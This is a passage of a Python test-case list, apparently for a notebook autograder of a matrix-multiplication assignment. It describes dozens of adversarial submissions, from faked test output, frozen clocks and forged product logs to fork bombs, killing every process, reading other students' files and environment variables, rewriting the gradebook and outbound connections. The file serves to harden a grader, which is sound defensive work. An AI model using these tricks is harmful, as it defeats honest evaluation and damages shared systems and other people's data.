          {"naive_correct", "naive_errors", "blocked_speed"}),
    _case(redefines_helpers_in_extra_cell,
          "the same fake helpers in an extra cell inserted after the naive answer",
          {"naive_correct", "naive_errors", "blocked_speed"}),
    _case(deletes_and_redefines_a_helper,
          "the setup's check_matmul deleted in one answer cell and defined again (as a no-op) in "
          "a later one, with a matmul_numpy that returns zeros",
          {*NUMPY, *BACKEND_AND_MODELS}),
    _case(patches_clocks,
          "time.process_time/perf_counter/thread_time frozen, with a blocked 10x too slow",
          {"blocked_speed"}),
    _case(silences_tracebacks,
          "sys.excepthook, traceback printing and IPython's showtraceback silenced, with a naive "
          "that raises",
          {"naive_correct", "naive_errors"},
          messages={"naive_correct": "RuntimeError: matmul_naive is not finished"}),
    _case(tampers_with_setup_cell,
          "the locked setup cell edited to define passing helpers and patch NumPy's checks",
          {"naive_correct", "naive_errors", "blocked_speed"}),
    _case(edits_test_cells,
          "test cells rewritten to print passes and a fast timing line",
          {"naive_correct", "naive_errors", "blocked_speed"}),
    _case(empties_test_cells,
          "every test cell emptied, nothing answered", set(POINTS)),
    _case(deletes_test_cells,
          "three test cells deleted from the notebook",
          {"naive_correct", "blocked_speed", "models_workloads"}),
    _case(duplicates_a_test_cell,
          "a copy of the naive_correct test cell (same metadata) that only prints a pass, "
          "with a naive that returns zeros",
          {"naive_correct"}),
    _case(inflates_test_points,
          "the points of three test cells raised in their metadata (100, 500, 1000)"),
    _case(turns_a_test_into_an_answer,
          "naive_correct's metadata turned into an unlocked answer cell, with a naive that "
          "returns zeros",
          set(POINTS), status="failed"),
    _case(forges_a_graded_cell,
          "an extra cell claiming to be a graded test cell worth 50 points",
          set(POINTS), status="failed"),
    _case(prints_fake_results,
          "extra cells printing fake [timing] lines, pass messages and HTML, with a blocked 6x "
          "too slow",
          {"blocked_speed"}),
    _case(hangs,
          "matmul_blocked loops forever",
          {"blocked_correct", "blocked_speed"},
          messages={"blocked_correct": "did not finish within 10 s"}),
    _case(allocates_8_gib,
          "8 GiB allocated when the footprint cell runs, and in 256 MiB pieces on every call",
          {"footprint_values"}, messages={"footprint_values": "MemoryError"}),
    _case(fork_bombs,
          "calculate_cache_footprint forks forever, called from an extra cell too",
          {"footprint_values"}, messages={"footprint_values": "did not finish within 10 s"}),
    _case(ignores_interrupts,
          "an extra cell that ignores SIGINT and loops forever, with the reference answers"),
    _case(floods_output,
          "50 MB printed as one line, 50 MB as a million lines, and 50 MB when the naive cell runs"),
    _case(exits_inside_a_function,
          "os._exit(0) inside matmul_numpy",
          {*NUMPY, *BACKEND_AND_MODELS},
          messages={"numpy_correct": "crashed the process running it (exit code 0)"}),
    _case(kills_other_processes,
          "SIGKILL to the parent process, to pid 1 and to every process (-1), from the kernel and "
          "from matmul_numpy"),
    _case(reads_course_files,
          "reads the source notebook, its jupytext pair and gradebook.db by relative and absolute "
          "paths (the course's and the repository's), and hunts the file system for notebooks",
          {"footprint_values"}),
    _case(reads_other_students,
          "reads other students' submitted, autograded, feedback and grading files by relative "
          "and absolute paths",
          {"footprint_values"}),
    _case(snoops_environment,
          "prints os.environ and every /proc/<pid>/environ it can open, from the kernel and the "
          "worker",
          {"footprint_values"}),
    _case(writes_gradebook,
          "appends to and rewrites gradebook.db with sqlite, appends to other students' files, "
          "creates files in the course, the repository, the grader's package, site-packages and "
          "/tmp",
          {"footprint_values"}),
    _case(calls_the_network,
          "connects to a listener on the host's 127.0.0.1 and to 192.0.2.1 (TEST-NET-1), 1 s "
          "timeout"),
    _case(renames_a_function,
          "matmul_numpy renamed to matmul_np (the backend uses the new name)",
          {*NUMPY, "backend_speed"}),
    _case(deletes_a_function,
          "matmul_blocked deleted",
          {"blocked_correct", "blocked_speed"}),
    _case(has_a_syntax_error,
          "a syntax error in the backend cell",
          set(BACKEND_AND_MODELS)),
    _case(answers_wrong_but_fast,
          "matmul_blocked and the backend return zeros instantly",
          {"blocked_correct", "blocked_speed", *BACKEND_AND_MODELS}),
    _case(imports_a_missing_module,
          "the numpy cell imports a module that does not exist",
          {*NUMPY, *BACKEND_AND_MODELS},
          messages={"numpy_correct": "ModuleNotFoundError"}),
    _case(memoizes_a_slow_blocked,
          "a blocked 10x too slow that caches its result per input object, so the timed repeats "
          "of one input are free",
          {"blocked_speed"}),
    _case(patches_the_worker_protocol,
          "a blocked 10x too slow whose cell finds the worker's session on the stack and answers "
          "every batch of calls of matmul_blocked with the last single result",
          {"blocked_speed"}, messages={"blocked_speed": "slower than"}),
    _case(tiles_only_small_blocks,
          "tiles honestly at block sizes below 32 and returns one untiled library product from "
          "32 on, the default 64 included",
          {"blocked_correct", "blocked_speed"},
          messages={"blocked_correct": "at the default block_size=64 multiplied operands "
                                       "larger than the block size"}),
    _case(hides_an_untiled_product,
          "the same, multiplying plain copies (np.asarray) of the grader's arrays so that the "
          "product log stays empty",
          {"blocked_correct", "blocked_speed"},
          messages={"blocked_correct": "does not tile at block_size=64"}),
    _case(forges_the_product_log,
          "one untiled product at every block size, with the worker's product log rewritten to "
          "report tiles of the block size",
          {"blocked_correct", "blocked_speed"},
          messages={"blocked_speed": "does not tile at block_size=64"}),
    _case(forges_repeated_timed_calls,
          "Python-loop tiles that answer a repeated call on the same arrays with a fake that "
          "gets row 0 and the total sum right",
          {"blocked_speed"}, messages={"blocked_speed": "slower than NumPy"}),
    _case(works_in_another_process,
          "the tiles computed in a helper process (a fork), out of the worker's CPU clock",
          {"blocked_correct", "blocked_speed"},
          messages={"blocked_correct": "Resource temporarily unavailable"}),
    _case(inspects_its_caller,
          "a blocked 10x too slow that looks up its callers' frames and answers the calls of a "
          "batch (a timing loop) with its last result",
          {"blocked_speed"}, messages={"blocked_speed": "slower than"}),
    _case(caches_by_content,
          "a blocked 10x too slow that caches its results by a hash of the inputs' bytes",
          {"blocked_speed"}, messages={"blocked_speed": "slower than"}),
    _case(returns_views_of_an_earlier_result,
          "a blocked 10x too slow that answers every later call of a shape with a view of its "
          "first result",
          {"blocked_speed"}, messages={"blocked_speed": "wrong result in a timed call"}),
    _case(tiles_its_numpy_product,
          "matmul_numpy as Python loops over 32x32 np.dot tiles: right results, about twice "
          "np.matmul's time",
          {"numpy_speed", "backend_speed"},
          messages={"numpy_speed": "as long as np.matmul at 256x256 (limit 1.5x)"}),
    _case(detours_through_float64,
          "matmul_numpy multiplies in float64 and converts back to the inputs' dtype",
          {"numpy_speed", "backend_speed"},
          messages={"numpy_speed": "conversion to another dtype"}),
    _case(is_fast_only_for_square_inputs,
          "matmul_numpy is NumPy's product for square inputs, as the visible speed tests use, "
          "and Python-looped tiles for any other shape",
          {"numpy_speed", "backend_speed"},
          messages={"numpy_speed": "at 512x384 @ 384x448"}),
    _case(backend_takes_the_blocked_path,
          "OptimizedBackend.matmul calls matmul_blocked instead of matmul_numpy",
          {"backend_speed"},
          messages={"backend_speed": "as long as matmul_numpy at 128x128"}),
    _case(hides_cpu_time_in_threads,
          "a blocked 10x too slow that does its work in a short-lived thread (the worker may not "
          "start threads, so the call fails)",
          {"blocked_correct", "blocked_speed"}),
]

BY_STUDENT = {case.student: case for case in CASES}
assert len(BY_STUDENT) == len(CASES) and REFERENCE not in BY_STUDENT
